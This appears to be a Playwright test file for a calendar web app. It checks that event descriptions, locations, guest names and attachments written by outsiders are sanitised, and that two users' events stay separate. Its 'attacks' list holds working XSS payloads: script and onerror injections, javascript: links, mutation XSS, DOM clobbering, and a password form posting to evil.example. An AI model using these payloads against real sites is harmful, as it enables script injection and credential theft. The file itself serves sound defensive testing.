import type { Browser } from 'playwright-core'
import type { EventBody } from '../../local/calendar-simulator'
import { launchBrowser } from '../support/browser'
import { becomes, type CalendarPage, openAs, signIn } from '../support/calendar-page'
import { titled, type WholeUser } from '../support/whole-user'
import { WholeWorld } from '../support/whole-world'

/** Whoever sends an invitation writes what these pages show. */
const attacks: readonly { readonly name: string; readonly event: EventBody }[] = [
  {
    name: 'an image',
    event: { description: '<img src=x onerror="alert(1)"><img src="https://evil.example/pixel.png">' },
  },
  { name: 'a script', event: { description: '<script>alert(1)</script><b>bold</b>' } },
  { name: 'a frame', event: { description: '<iframe src="https://evil.example"></iframe><object data="x"></object>' } },
  {
    name: 'a drawing',
    event: { description: '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>' },
  },
  { name: 'a link', event: { description: '<a href="javascript:alert(1)" onclick="alert(1)">click</a>' } },
  {
    name: 'a hidden link',
    event: { description: '<a href="&#106;avascript:alert(1)">x</a> <a href="data:text/html,x">y</a>' },
  },
  {
    name: 'a form',
    event: { description: '<form action="https://evil.example"><input name=password><button>Go</button></form>' },
  },
  {
    name: 'a style',
    event: {
      description: '<style>*{display:none}</style><p style="position:fixed;inset:0" class="sheet">over all</p>',
    },
  },
  {
    name: 'a base',
    event: {
      description:
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    },
  },
  {
    name: 'a mutation',
    event: {
      description:
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    },
  },
  {
    name: 'a clobbering',
    event: { description: '<a id="app" name="getElementById" href="https://evil.example">x</a>' },
  },
  { name: '<img src=x onerror=alert(1)>', event: {} },
  { name: 'a place', event: { location: '<img src=x onerror=alert(1)> javascript:alert(1)' } },
  {
    name: 'guests',
    event: {
      attendees: [
        { email: 'x@example.com', displayName: '<script>alert(1)</script>', comment: '<b onclick=alert(1)>' },
      ],
    },
  },
  {
    name: 'a file',
    event: { attachments: [{ fileUrl: 'javascript:alert(1)', title: '<img src=x onerror=alert(1)>' }] },
  },
]

/** What a description may be made of. */
const HARMLESS = [
  'A',
  'B',
  'STRONG',
  'I',
  'EM',
  'U',
  'S',
  'P',
  'BR',
  'UL',
  'OL',
  'LI',
  'SPAN',
  'DIV',
  'BLOCKQUOTE',
  'CODE',
  'PRE',
]

/** What the page's policy refused while a description was parsed was stopped, and did nothing. */
const REFUSED = /violates the following Content Security Policy directive.*The action has been blocked/

interface Made {
  readonly tag: string
  readonly attributes: readonly string[]
}

const MADE_IN_DESCRIPTION = `[...document.querySelectorAll('.prose *')].map(({ tagName, attributes }) => ({
  tag: tagName,
  attributes: [...attributes].map(({ name }) => name),
}))`

const LINKS_IN_DETAILS = `[...document.querySelectorAll('.details a[href]')].map((link) => link.getAttribute('href'))`

const REMEMBER_WHAT_IS_DRAWN = `
  globalThis.seen = []
  new MutationObserver(() => {
    for (const event of document.querySelectorAll('[data-event]')) seen.push(event.textContent)
  }).observe(document, { subtree: true, childList: true })`

jest.setTimeout(120_000)

describe('what strangers write', () => {
  let world: WholeWorld
  let browser: Browser
  let mine: CalendarPage
  let user: WholeUser

  beforeAll(async () => {
    ;[world, browser] = await Promise.all([WholeWorld.open({ coalesceMs: 0 }), launchBrowser()])
    user = await world.addUser()
    // Ahead, since an agenda begins today: what was a few hours ago may have been yesterday.
    attacks.forEach(({ name, event }, index) => user.insert(name, index * 0.25 + 1, event))
    await user.watch()
    mine = await openAs(browser, world, user)
    await mine.choose('Agenda')
    await mine.page.keyboard.press('p')
    await mine.page.keyboard.press('n')
  }, 240_000)
  afterAll(async () => {
    await mine?.close()
    await browser?.close()
    await world?.close()
  })

  it.each(attacks)('is shown and does nothing: $name', async ({ name }) => {
    const { page } = mine
    await mine.event(titled(name)).first().click()
    const dialog = page.getByRole('dialog', { name: 'Event' })
    await dialog.getByRole('heading', { name: titled(name) }).waitFor()
    const made = await page.evaluate<readonly Made[]>(MADE_IN_DESCRIPTION)
    expect(made.filter(({ tag }) => !HARMLESS.includes(tag))).toEqual([])
    expect(
      made.flatMap(({ attributes }) => attributes).filter((one) => !['href', 'target', 'rel'].includes(one)),
    ).toEqual([])
    const links = await page.evaluate<readonly string[]>(LINKS_IN_DETAILS)
    expect(links.filter((href) => !/^(https:|mailto:)/.test(href))).toEqual([])
    for (const link of await dialog.locator('a:not([href])').all()) await link.click()
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
    expect(mine.ownTroubles().filter((trouble) => !REFUSED.test(trouble))).toEqual([])
    expect(mine.strangers).toEqual([])
  })

  it('keeps what is harmless', async () => {
    await mine.event(titled('a script')).first().click()
    const prose = mine.page.locator('.prose')
    await prose.waitFor()
    expect(await prose.innerHTML()).toBe('<b>bold</b>')
    await mine.page.keyboard.press('Escape')
  })
})

describe('two users', () => {
  let world: WholeWorld
  let browser: Browser

  beforeAll(async () => {
    ;[world, browser] = await Promise.all([WholeWorld.open({ coalesceMs: 0 }), launchBrowser()])
  }, 240_000)
  afterAll(async () => {
    await browser?.close()
    await world?.close()
  })

  it('never see each other’s events, neither side by side nor one after the other in one browser', async () => {
    const [ana, ben] = await Promise.all([world.addUser(), world.addUser()])
    ana.insert('of Ana', 1)
    ben.insert('of Ben', 1)
    await ana.watch()
    await ben.watch()
    const [first, second] = [await openAs(browser, world, ana), await openAs(browser, world, ben)]
    for (const each of [first, second]) await each.choose('Agenda')
    await first.event(titled('of Ana')).first().waitFor()
    await second.event(titled('of Ben')).first().waitFor()
    ana.insert('more of Ana', 2)
    await first.event(titled('more of Ana')).first().waitFor()
    await world.settle()
    expect(await second.event('of Ana').count()).toBe(0)
    expect(await first.event('of Ben').count()).toBe(0)

    // Whatever is drawn for the next user, at any moment, is looked at.
    await becomes(first.page, ben)
    await first.page.getByRole('button', { name: 'Sign out' }).click()
    await first.page.reload()
    await first.page.evaluate(REMEMBER_WHAT_IS_DRAWN)
    await signIn(first.page)
    await first.event(titled('of Ben')).first().waitFor()
    const seen = await first.page.evaluate<string[]>('seen')
    expect(seen.length).toBeGreaterThan(0)
    expect(seen.filter((text) => text.includes('of Ana'))).toEqual([])
    for (const each of [first, second]) {
      expect(each.ownTroubles()).toEqual([])
      await each.close()
    }
  }, 180_000)
})
